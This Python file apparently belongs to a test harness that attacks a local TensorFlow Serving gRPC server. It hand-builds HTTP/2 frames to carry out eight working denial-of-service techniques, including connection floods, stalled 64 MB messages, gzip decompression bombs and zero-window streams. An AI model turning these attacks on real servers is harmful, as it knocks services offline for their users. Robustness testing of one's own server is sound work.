"""Strangers who attack the local server over gRPC: a function for each way."""

import contextlib
import gzip
import socket
import struct
import time

import attackers
import grpc
import numpy as np
import tensorflow as tf
from attackers import Target
from tensorflow_serving.apis import predict_pb2

METHOD = "/tensorflow.serving.PredictionService/Predict"
DATA, HEADERS, SETTINGS = 0, 1, 4  # kinds of frames
MOST = 64 << 20  # bytes of a message
FRAME = 16_384  # bytes of what is in a frame
FIRST = 3 * (9 + FRAME)  # bytes that may be sent at once


def make_message(inputs: dict, signature="adapt_and_predict_uint8") -> bytes:
    """Returns the message of a request over gRPC."""
    asked = predict_pb2.PredictRequest()
    asked.model_spec.name = attackers.MODEL
    asked.model_spec.signature_name = signature
    for name, value in inputs.items():
        dtype = tf.uint8 if name.endswith("images") else tf.int32
        asked.inputs[name].CopyFrom(tf.make_tensor_proto(value, dtype))
    return asked.SerializeToString()


def frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    """Returns a frame of HTTP/2."""
    length = struct.pack(">I", len(content))[1:]
    return length + struct.pack(">BBI", kind, flags, stream) + content


def streams(count: int, window: int = 65_535, encoding="identity") -> bytes:
    """Returns what begins as many requests on a new connection.

    Args:
        count: of the requests.
        window: bytes of an answer that the client is ready to take.
        encoding: of the requests' messages.
    """
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": METHOD,
        ":authority": "x",
        "content-type": "application/grpc",
        "te": "trailers",
        "grpc-encoding": encoding,
    }
    head = b"".join(  # of HPACK, each field in full
        b"\0%c%s%c%s" % (len(name), name.encode(), len(value), value.encode())
        for name, value in fields.items()
    )
    start = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    start += frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window))
    heads = (frame(HEADERS, 4, 1 + 2 * i, head) for i in range(count))
    return start + b"".join(heads)


def message(
    content: bytes, stream: int, length: int | None = None, packed: bool = False
) -> bytes:
    """Returns the frames of a message, which is longer than it is if told."""
    told = len(content) if length is None else length
    sent = struct.pack(">BI", packed, told) + content
    pieces = [sent[i : i + FRAME] for i in range(0, len(sent), FRAME)]
    frames = [frame(DATA, 0, stream, piece) for piece in pieces]
    end = b"" if told > len(content) else frame(DATA, 1, stream, b"")
    return b"".join(frames) + end


def open_long(target: Target, start: bytes, sent: bytes) -> socket.socket:
    """Returns a connection on which up to four megabytes were sent.

    Until a client acknowledges the server's settings, it may send 65,535 bytes.
    """
    connection = target.open(start + sent[:FIRST], target.grpc)
    time.sleep(0.1)
    connection.sendall(frame(SETTINGS, 1, 0, b""))  # between two frames
    connection.sendall(sent[FIRST:])
    return connection


def idle_crowd(target: Target, stop) -> None:
    """Holds more connections than the server may have, and asks nothing."""
    for_grpc = streams(0)
    attackers.hold(lambda: target.open(for_grpc, target.grpc), stop, 1500, 0.05)


def empty_streams(target: Target, stop) -> None:
    """Begins requests without messages, a hundred on each connection."""
    opened = streams(100)
    attackers.hold(lambda: target.open(opened, target.grpc), stop, 100, 0.5)


def unfinished(target: Target, stop) -> None:
    """Sends four megabytes of what is to be the longest message."""
    start, sent = streams(1), message(bytes(4_000_000), 1, MOST)
    attackers.hold(lambda: open_long(target, start, sent), stop, 300, 0.2)


def bombs(target: Target, stop) -> None:
    """Sends messages that inflate to a gigabyte."""
    start = streams(1, encoding="gzip")
    sent = message(gzip.compress(bytes(10**9)), 1, packed=True)
    attackers.hold(lambda: open_long(target, start, sent), stop, 5, 0.5)


def unread_answers(target: Target, stop) -> None:
    """Asks for long answers, and is not ready to take them."""
    inputs = attackers.make_inputs(np.random.default_rng(2), 1, steps=0)
    del inputs["query_images"]
    asked = make_message(inputs, "adapt_uint8")
    sent = streams(5, window=0)
    sent += b"".join(message(asked, 1 + 2 * i) for i in range(5))
    attackers.hold(lambda: target.open(sent, target.grpc), stop, 300, 0.5)


def large_messages(target: Target, stop) -> None:
    """Sends eight of the longest messages at once, and goes on so."""
    sent = b" " * (MOST - 1024)
    with channel(target) as call:
        while not stop.wait(0.1):
            asked = [call.future(sent, timeout=60) for _ in range(8)]
            for one in asked:
                with contextlib.suppress(grpc.RpcError):
                    one.result()


def many_parts(target: Target, stop) -> None:
    """Sends messages of millions of empty inputs, of a length that may be."""
    with channel(target) as call:
        while not stop.wait(0.1):
            with contextlib.suppress(grpc.RpcError):
                call(b"\x12\0" * 7_000_000, timeout=60)


def leaving(target: Target, stop) -> None:
    """Asks for what takes long, and leaves before it is there."""
    draw = np.random.default_rng(1)
    sent = make_message(attackers.make_inputs(draw, 40, steps=1000))
    while not stop.wait(0.1):
        with channel(target) as call:
            asked = call.future(sent)
            stop.wait(0.5)
            asked.cancel()


@contextlib.contextmanager
def channel(target: Target):
    """Yields what asks with bytes, over a connection of its own."""
    options = [
        ("grpc.use_local_subchannel_pool", 1),
        ("grpc.max_receive_message_length", -1),
    ]
    place = f"127.0.0.1:{target.grpc}"
    with grpc.insecure_channel(place, options) as opened:
        yield opened.unary_unary(METHOD)


ATTACKS = (
    idle_crowd,
    empty_streams,
    unfinished,
    unread_answers,
    large_messages,
    many_parts,
    bombs,
    leaving,
)
